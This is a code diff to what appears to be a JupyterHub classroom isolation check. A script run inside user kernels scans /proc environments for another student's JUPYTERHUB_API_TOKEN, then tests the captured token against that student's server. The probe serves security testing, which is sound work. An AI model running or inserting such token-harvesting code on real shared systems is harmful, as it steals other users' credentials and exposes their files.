@@ -23,7 +23,7 @@ import websocket
 from classroom.hub import Hub
 
 CELL_TIMEOUT = 600
-# Run in each kernel after a lesson: what the kernel saw (threads, memory) and what it could reach.
+# Run in each kernel after a lesson: what the kernel saw (threads, peak memory, user).
 KERNEL_FACTS = r"""
 import json as _json, os as _os, resource as _resource
 from resnet_explorer.speed import thread_policy as _thread_policy
@@ -56,7 +56,8 @@ for _pid in filter(str.isdigit, _os.listdir("/proc")):
     except OSError:
         continue
     if b"JUPYTERHUB_USER=" + %(name)r.encode() in _environment:
-        _stolen = [v.split(b"=", 1)[1].decode() for v in _environment if v.startswith(b"JUPYTERHUB_API_TOKEN=")][0]
+        _stolen = next((v.split(b"=", 1)[1].decode() for v in _environment
+                        if v.startswith(b"JUPYTERHUB_API_TOKEN=")), None) or _stolen
 _found["their_token_from_proc"] = "stolen" if _stolen else "not found"
 if _stolen:
     _found["stolen_token_on_their_server"] = _status(%(server)r + "api/contents", _stolen)
